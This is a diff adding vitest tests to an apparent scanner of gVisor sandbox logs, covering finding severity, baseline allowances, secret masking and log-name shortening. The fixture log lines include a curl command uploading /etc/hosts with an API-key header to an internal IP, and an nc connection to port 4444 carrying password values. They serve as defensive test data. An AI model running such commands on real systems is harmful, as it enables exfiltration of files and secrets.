@@ -2,7 +2,7 @@
 import { describe, expect, it } from 'vitest';
 import { formatSarif } from '../../src/formats/sarif.js';
 import { formatScan } from '../../src/formats/scan.js';
-import { PLAIN } from '../../src/formats/layout.js';
+import { PLAIN, shortNames, tellingNames } from '../../src/formats/layout.js';
 import { logOf } from '../../src/rule-tests.js';
 import { readBuiltInRules, scan } from '../../src/scan.js';
 import { chunked } from '../anomaly/scanning.js';
@@ -95,6 +95,48 @@ describe('a page of findings', () => {
     expect(await page(TWO, 80, true), 'with --verbose').toMatch('HOME=***');
   });
 
+  it('lists what is of low severity, be it one finding', async () => {
+    const lines = [
+      'EXEC: [/bin/sh -c kill 4]',
+      fork(2),
+      exec(2, 'sleep', '9'),
+      fork(3),
+      exec(3, 'curl', '-F', 'f=@/etc/hosts', '-H', 'X-Api-Key: sk-live-abcdef', 'http://10.1.2.3/'),
+    ];
+    const { report } = await scan(chunked(Buffer.from(logOf(lines.join('\n'))), 65_536), { inputFormat: 'glog' });
+    const [one] = report.findings;
+    expect(one?.cause).toMatch('X-Api-Key: *** http://10.1.2.3/');
+    const low = { ...report, findings: [{ ...one, severity: 'low' as const, cause: 'sh did it' }] } as typeof report;
+    const text = formatScan(low, PLAIN, { verbose: false });
+    expect(text).toMatch(/^1 finding: 1 low /);
+    expect(text).toMatch(/^low +upload-tool .*sh did it/m);
+    expect(text).not.toMatch('Not shown');
+  });
+
+  it('leads what is allowed with how bad it is', async () => {
+    const { report } = await scan(chunked(Buffer.from(logOf(START)), 65_536), { inputFormat: 'glog' });
+    const allowed = (severity: 'high' | 'low'): object => ({
+      rule: 'shadow-read',
+      count: 2,
+      reason: 'in the baseline: cat reads it',
+      until: null,
+      severity,
+    });
+    const excepted = [allowed('high'), allowed('high'), allowed('low')] as unknown as typeof report.excepted;
+    const text = formatScan({ ...report, excepted }, PLAIN, { verbose: false });
+    expect(text).toMatch(/^Allowed +2 high, 1 low in the baseline: shadow-read, 2 times: cat/m);
+  });
+
+  it('masks a command line in its sentence as in the list of arguments and in its record', async () => {
+    const text = await page(
+      [START, fork(2), exec(2, 'nc', '-w1', 'h', '4444', 'MYSQL_PWD=abc -pdef', 'API_MODE=ghi')],
+      200,
+      true,
+    );
+    expect(text).toMatch(/nc was started: .*API_MODE=\*\*\*/);
+    expect(text).not.toMatch(/abc|def|ghi/);
+  });
+
   it.each([60, 80, 140])('fits %i columns, and the overview says what happened', async (width) => {
     const text = await page(TWO, width);
     for (const line of text.split('\n')) expect(line.length, line).toBeLessThanOrEqual(width);
@@ -109,4 +151,17 @@ it('the advice of no rule is cut in two', async () => {
     for (const one of [...look, ...false_positives])
       expect(one, id).not.toMatch(/^(?:and|or|but|not|for|whether|which) /);
   }
+});
+
+it('logs of many folders are told apart by their folders', () => {
+  const logs = ['web', 'db'].map((id) => `/l/${id}/runsc.log.20261126-184756.160519.boot.txt`);
+  expect([...tellingNames(shortNames(logs), 24).values()]).toEqual(['web/boot', 'db/boot']);
+  const long = [1, 2].map((n) => `/l/${'x'.repeat(20)}${n}/runsc.log.20261126-184756.16051${n}.boot.txt`);
+  const cut = [...tellingNames(shortNames(long), 24).values()];
+  expect(new Set(cut).size).toBe(2);
+  expect(cut.every((name) => name.length <= 24)).toBe(true);
+  expect([...tellingNames(shortNames(['/a/boot.log', '/b/gofer.log']), 24).values()]).toEqual([
+    'boot.log',
+    'gofer.log',
+  ]);
 });
